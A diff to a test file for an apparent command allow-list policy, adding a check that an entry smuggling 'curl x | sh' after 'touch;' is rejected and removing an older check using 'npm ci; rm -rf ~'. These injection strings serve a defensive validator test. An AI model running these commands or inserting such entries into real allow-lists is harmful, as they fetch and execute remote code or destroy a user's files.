@@ -93,6 +93,8 @@ test('Decline: the command never runs and the attempt goes on', { timeout: 120_0
 test('an allow-listed plain command is accepted by policy; the same prefix never covers a command with shell operators', { timeout: 180_000 }, async () => {
   await h.client.configure({ allowedCommandPrefixes: ['touch', 'printf'] });
   try {
+    // A bad entry is refused as a whole, with the entry named, and changes nothing: the list above still applies below.
+    await assert.rejects(h.client.configure({ maxConcurrent: 1, allowedCommandPrefixes: ['touch; curl x | sh'] }), /"touch; curl x \| sh" is not a plain command prefix/);
     const touched = join(h.dir, 'outside-touched.txt');
     const t = await h.client.launch({ title: 'touch', prompt: `touch [[quartet-demo:escalate-touch]] [[quartet-demo-path:${touched}]]`, attempts: 1 });
     const done = await waitForTask(h.client, t.id);
@@ -135,7 +137,6 @@ test('the allow-list is never written to the supervisor state (a client sends it
     const { stateDir } = await supervisorPaths(h.repo);
     await waitForSnapshot(h.client, 10_000, () => (existsSync(join(stateDir, 'state.json')) ? true : null));
     assert.doesNotMatch(readFileSync(join(stateDir, 'state.json'), 'utf8'), /npm ci|allowedCommandPrefixes/);
-    await assert.rejects(h.client.configure({ allowedCommandPrefixes: ['npm ci; rm -rf ~'] }), /not a plain command prefix/);
   } finally {
     await h.client.configure({ allowedCommandPrefixes: [] });
   }
